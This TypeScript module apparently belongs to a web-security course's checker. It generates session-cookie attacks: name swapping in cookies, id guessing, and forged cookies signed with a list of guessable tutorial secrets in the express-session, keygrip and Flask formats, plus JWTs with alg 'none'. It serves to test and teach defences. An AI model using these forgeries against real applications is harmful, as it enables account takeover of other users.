// What an attacker does with cookies, for lesson 4: edit her own session cookie to name someone
// else, or make one from scratch without the app's secret. Works on whatever cookies the app
// sets: a session id (signed or not), a JSON or base64 session (cookie-session, Flask's session),
// a JSON Web Token, a plain or disguised name (disguises.ts).
import { createHmac } from 'node:crypto';
import { inflateSync } from 'node:zlib';
import { cookiesOf, replaceCookies, type JarCookie } from '../jar.ts';
import { decode, digestSwaps, shiftedNumbers } from '../cookie-edits.ts';
import { swapName } from './disguises.ts';

export { cookiesOf, replaceCookies, type JarCookie };

/** A set of cookies to send, and how to say what they are in a message. */
export interface Attempt {
  readonly what: string;
  readonly cookies: readonly JarCookie[];
  /**
   * The attempt is an edit of the attacker's own cookie that a right app may simply ignore (a
   * number that is not an id): it counts only when it logs someone else in, not when it leaves
   * the attacker logged in as herself.
   */
  readonly someoneElse?: boolean;
}

/** A signing key: text, or raw bytes (a digest's, say). */
export type Secret = string | Uint8Array;

/**
 * Secrets an attacker tries first: the ones in the session libraries' examples and tutorials.
 * An app that signs with one of them signs with nothing.
 */
export const GUESSED_SECRETS = ['keyboard cat', 'secret', 'changeme', 'key1', 'key2', 'session-secret', 'supersecret', 'dev', 'super secret key'];

const isSignature = (c: JarCookie) => c.key.endsWith('.sig');

/**
 * The visitor's own cookies with the name `from` replaced by `to` wherever it appears (in clear,
 * in JSON, inside base64), signatures left as they were. A cookie that carries no name (a session
 * id) gets one character of its id changed instead. Undefined when there is nothing to edit.
 */
export function tampered(cookies: readonly JarCookie[], from: string, to: string): JarCookie[] | undefined {
  let changed = false;
  const edited = cookies.map((cookie) => {
    if (isSignature(cookie)) return cookie;
    const value = swapName(cookie.value, from, to) ?? changeId(cookie.value);
    if (value === undefined || value === cookie.value) return cookie;
    changed = true;
    return { key: cookie.key, value };
  });
  return changed ? edited : undefined;
}

/**
 * The visitor's own cookies with one of them edited where it names her without saying her name:
 * a number moved to its neighbours' (the session before hers, the one after), a digest of one of
 * `pairs`' first values (her name) replaced by the same digest of its second (her victim's).
 * The other cookies, signatures included, are sent as they were.
 */
export function editedNumbersAndDigests(cookies: readonly JarCookie[], pairs: ReadonlyArray<readonly [string, string]>): Attempt[] {
  const attempts: Attempt[] = [];
  cookies.forEach((cookie, i) => {
    if (isSignature(cookie)) return;
    for (const edit of [...digestSwaps(cookie.value, pairs), ...shiftedNumbers(cookie.value)]) {
      const edited = cookies.map((c, j) => (j === i ? { key: c.key, value: edit.value } : c));
      attempts.push({ what: `her own cookie "${cookie.key}" with ${edit.what}`, cookies: edited, someoneElse: true });
    }
  });
  return attempts;
}

/** Secrets an attacker tries, and how a message names one of them. */
export interface Guesses {
  readonly secrets: readonly Secret[];
  readonly unsigned: boolean;
  /** Sign only in the formats the app's own cookies are signed in (the guesses are many). */
  readonly ownFormatOnly?: boolean;
  say(secret: Secret): string;
}

/** The secrets of tutorials and examples, and unsigned cookies. */
export const TUTORIAL_GUESSES: Guesses = { secrets: GUESSED_SECRETS, unsigned: true, say: (secret) => `the guessable secret "${String(secret)}"` };

/**
 * Cookies made from scratch that claim to be `victim`, in the shapes the app's own cookies have,
 * unsigned or signed with each secret guessed. `from` is the attacker's own name, as it appears
 * in her genuine cookies.
 */
export function forgeries(cookies: readonly JarCookie[], from: string, victim: string, guesses: Guesses = TUTORIAL_GUESSES): Attempt[] {
  const attempts: Attempt[] = [];
  for (const cookie of cookies) {
    if (isSignature(cookie)) continue;
    const text = decode(cookie.value);
    attempts.push(...flaskForgeries(cookie.key, text, from, victim, guesses));
    attempts.push(...tokenForgeries(cookie.key, text, from, victim, guesses));
    const keygrip = !guesses.ownFormatOnly || cookies.some((c) => c.key === `${cookie.key}.sig`);
    const cookieSignature = !guesses.ownFormatOnly || text.startsWith('s:');
    const signed = /^s:(.*)\.[^.]*$/s.exec(text);
    const inner = signed ? signed[1] : text;
    const named = swapName(inner, from, victim);
    // What goes inside the cookie: the payload with the victim's name, or guessed session ids.
    const payloads = named !== undefined ? [named] : guessedIds(inner);
    const label = (payload: string) => (named !== undefined ? `"${cookie.key}" naming ${victim}` : `"${cookie.key}" holding the guessed id ${payload}`);
    for (const payload of payloads) {
      const plain = decode(payload);
      if (guesses.unsigned) attempts.push({ what: `a cookie ${label(payload)}, unsigned`, cookies: [{ key: cookie.key, value: payload }] });
      for (const secret of guesses.secrets) {
        const what = `a cookie ${label(payload)}, signed with ${guesses.say(secret)}`;
        // cookie-signature's format (express-session, cookie-parser): s:<value>.<HMAC-SHA256>
        if (cookieSignature) attempts.push({ what, cookies: [{ key: cookie.key, value: encodeURIComponent(`s:${plain}.${hmac('sha256', secret, plain).replace(/=+$/, '')}`) }] });
        // keygrip's format (cookie-session, cookies): a second cookie "<name>.sig"
        if (keygrip) attempts.push({
          what,
          cookies: [
            { key: cookie.key, value: payload },
            { key: `${cookie.key}.sig`, value: hmac('sha1', secret, `${cookie.key}=${payload}`).replace(/[/+=]/g, (c) => ({ '/': '_', '+': '-', '=': '' })[c]!) },
          ],
        });
      }
    }
  }
  return attempts;
}

/**
 * Flask's session cookie (itsdangerous): base64url JSON (zlib'd, after a ".", when long), a
 * timestamp and an HMAC-SHA1 made with a key derived from the secret and the salt
 * "cookie-session". Forged the same way with each guessable secret, naming `victim`.
 */
const FLASK_COOKIE = /^(\.?)([A-Za-z0-9_-]+)\.([A-Za-z0-9_-]+)\.([A-Za-z0-9_-]+)$/;

function flaskForgeries(key: string, text: string, from: string, victim: string, guesses: Guesses): Attempt[] {
  const parts = FLASK_COOKIE.exec(text);
  if (!parts) return [];
  let claim: string;
  try {
    const raw = Buffer.from(parts[2]!, 'base64url');
    claim = (parts[1] ? inflateSync(raw) : raw).toString('utf8');
    JSON.parse(claim);
  } catch {
    return [];
  }
  if (!claim.includes(from)) return [];
  const payload = Buffer.from(claim.split(from).join(victim), 'utf8').toString('base64url');
  const stamp = Buffer.alloc(4);
  stamp.writeUInt32BE(Math.floor(Date.now() / 1000));
  const signed = `${payload}.${stamp.toString('base64url')}`;
  return guesses.secrets.map((secret) => {
    const derived = createHmac('sha1', secret).update('cookie-session').digest();
    const signature = createHmac('sha1', derived).update(signed).digest('base64url');
    return { what: `a cookie "${key}" naming ${victim}, signed with ${guesses.say(secret)}`, cookies: [{ key, value: `${signed}.${signature}` }] };
  });
}

/**
 * A JSON Web Token (header.payload.signature, base64url JSON): the victim's token with no
 * signature at all (alg "none", which a verifier that follows the token's own header accepts),
 * and signed HS256 with each guessed secret.
 */
const TOKEN = /^([A-Za-z0-9_-]+)\.([A-Za-z0-9_-]+)\.([A-Za-z0-9_-]*)$/;

function tokenForgeries(key: string, text: string, from: string, victim: string, guesses: Guesses): Attempt[] {
  const parts = TOKEN.exec(text);
  if (!parts) return [];
  let claim: string;
  try {
    const header = JSON.parse(Buffer.from(parts[1]!, 'base64url').toString('utf8')) as { alg?: unknown };
    if (typeof header.alg !== 'string') return [];
    claim = Buffer.from(parts[2]!, 'base64url').toString('utf8');
    JSON.parse(claim);
  } catch {
    return [];
  }
  if (!claim.includes(from)) return [];
  const payload = Buffer.from(claim.split(from).join(victim), 'utf8').toString('base64url');
  const head = (alg: string) => Buffer.from(JSON.stringify({ alg, typ: 'JWT' }), 'utf8').toString('base64url');
  const attempts: Attempt[] = [];
  if (guesses.unsigned) {
    for (const alg of ['none', 'None', 'NONE']) attempts.push({ what: `a token "${key}" naming ${victim} with no signature (alg "${alg}")`, cookies: [{ key, value: `${head(alg)}.${payload}.` }] });
  }
  for (const secret of guesses.secrets) {
    const signed = `${head('HS256')}.${payload}`;
    attempts.push({ what: `a token "${key}" naming ${victim}, signed with ${guesses.say(secret)}`, cookies: [{ key, value: `${signed}.${createHmac('sha256', secret).update(signed).digest('base64url')}` }] });
  }
  return attempts;
}

function hmac(algorithm: string, secret: Secret, data: string): string {
  return createHmac(algorithm, secret).update(data).digest('base64');
}

/** Change one character of a session id (inside "s:<id>.<signature>" when signed). */
function changeId(value: string): string | undefined {
  const text = decode(value);
  const signed = /^s:([^.]+)\./.exec(text);
  const at = signed ? 2 : text.search(/[A-Za-z0-9]/);
  if (at < 0 || at >= text.length) return undefined;
  const c = text[at];
  const other = c === 'a' ? 'b' : c === '0' ? '1' : /[0-9]/.test(c) ? '0' : 'a';
  const edited = text.slice(0, at) + other + text.slice(at + 1);
  return text === value ? edited : encodeURIComponent(edited);
}

/** Ids an attacker tries when a cookie holds a bare id: the first few, and the neighbours of her own. */
function guessedIds(own: string): string[] {
  const guesses = new Set(['1', '2', '3']);
  if (/^\d+$/.test(own)) {
    const n = Number(own);
    for (const k of [n - 1, n - 2, n + 1]) if (k > 0) guesses.add(String(k));
  }
  guesses.delete(own);
  return [...guesses];
}

/**
 * Whether the visitor's cookies carry a signature made with `secret`: 'secret' when one does,
 * 'other' when they are signed in a format the check knows (cookie-signature's "s:<value>.<sig>",
 * keygrip's "<name>.sig", Flask's session) but with another key, 'unknown' when the check cannot tell.
 */
export function signedWith(cookies: readonly JarCookie[], secret: Secret): 'secret' | 'other' | 'unknown' {
  let other = false;
  for (const cookie of cookies) {
    if (isSignature(cookie)) {
      const name = cookie.key.slice(0, -'.sig'.length);
      const signed = cookies.find((c) => c.key === name);
      if (!signed) continue;
      const want = hmac('sha1', secret, `${name}=${signed.value}`).replace(/[/+=]/g, (c) => ({ '/': '_', '+': '-', '=': '' })[c]!);
      if (want === cookie.value) return 'secret';
      other = true;
      continue;
    }
    const text = decode(cookie.value);
    const flask = FLASK_COOKIE.exec(text);
    if (flask) {
      const derived = createHmac('sha1', secret).update('cookie-session').digest();
      if (createHmac('sha1', derived).update(`${flask[1]}${flask[2]}.${flask[3]}`).digest('base64url') === flask[4]) return 'secret';
      other = true;
      continue;
    }
    const signed = /^s:(.*)\.([^.]*)$/s.exec(text);
    if (!signed) continue;
    if (hmac('sha256', secret, signed[1]!).replace(/=+$/, '') === signed[2]) return 'secret';
    other = true;
  }
  return other ? 'other' : 'unknown';
}
